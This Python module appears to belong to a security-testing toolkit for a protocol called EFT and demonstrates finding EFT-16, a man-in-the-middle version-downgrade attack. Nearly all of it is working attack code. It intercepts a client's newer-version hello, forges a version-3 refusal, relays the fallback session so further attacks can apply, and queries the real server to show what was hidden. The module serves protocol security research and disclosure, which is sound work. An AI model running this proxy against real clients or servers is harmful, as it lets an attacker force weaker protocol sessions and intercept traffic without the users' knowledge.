"""The version byte is not authenticated: a man in the middle picks the version.

Nothing in a version-3 frame protects its header, so version negotiation is whatever
the network says. A client that speaks a newer version first and falls back to 3 when
refused can be downgraded by anyone in the middle: we answer its first frame with the
exact bytes a version-3-only server sends (1607, then close) without asking the
server, and relay the version-3 session it then opens (where every other attack in
this toolkit applies). We also ask the real server the same question and report what
it would have said: a version-3-only server sends exactly our bytes; a server that
speaks the newer version answers in it, and the client never learns. Success if a
client sent a non-3 frame, got our forged refusal, and then spoke version 3 through us.
"""

from __future__ import annotations

import argparse

from eft_protocol.codes import ResponseCode

from .common import ConnectionClosed, Out, ServerLink, add_listen_argument, add_target_argument
from .framing import Frame, response
from .proxy import Interceptor, MitmConnection, MitmProxy

FINDING = "EFT-16"
SUMMARY = "forge a version-3 refusal of a newer client's hello (downgrade)"
FORGED = response(ResponseCode.SERVER_ERROR)


def add_arguments(parser: argparse.ArgumentParser) -> None:
    add_target_argument(parser)
    add_listen_argument(parser)


async def real_refusal(target: str, raw: bytes) -> bytes:
    """What the real server answers to this first frame."""
    link = await ServerLink.open(target)
    try:
        link.writer.write(raw)
        answer = await link.receive(3.0)
        return answer.raw
    except ConnectionClosed:
        return b""
    finally:
        await link.close()


class Downgrade(Interceptor):
    def __init__(self, out: Out, target: str) -> None:
        self.out, self.target = out, target
        self.refused: list[bytes] = []
        self.real: bytes | None = None
        self.fallback = False

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.version != 3:
            self.out.step(f"client offered version {frame.version}: forged a v3 refusal")
            self.refused.append(frame.raw)
            self.real = await real_refusal(self.target, frame.raw)
            await conn.to_client(FORGED)
            conn.close_client()
            conn.close_server()
            return
        if self.refused:
            self.fallback = True
        await conn.to_server(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        if self.fallback:
            self.proxy.finish(True)


async def run(args: argparse.Namespace, out: Out) -> bool:
    downgrade = Downgrade(out, args.target)
    await MitmProxy(args.target, downgrade, out).run(args.listen, args.timeout)
    real = downgrade.real or b""
    if real == FORGED:
        said = "the server itself only speaks version 3: our refusal is byte for byte its own"
    else:
        code = int.from_bytes(real[1:3], "little") if len(real) >= 3 else None
        said = (
            f"the server would have answered version {real[0]} (code {code}): "
            "it speaks the newer version, and we hid it"
            if real
            else "the server closed the connection without a word"
        )
    out.step(said, real=real)
    return out.result(
        downgrade.fallback,
        "the client fell back to version 3 after our forged refusal"
        if downgrade.fallback
        else "no client fell back to version 3 after our refusal",
        forged=FORGED,
        real=real,
        server_speaks_newer=bool(real) and real[0] != 3,
    )
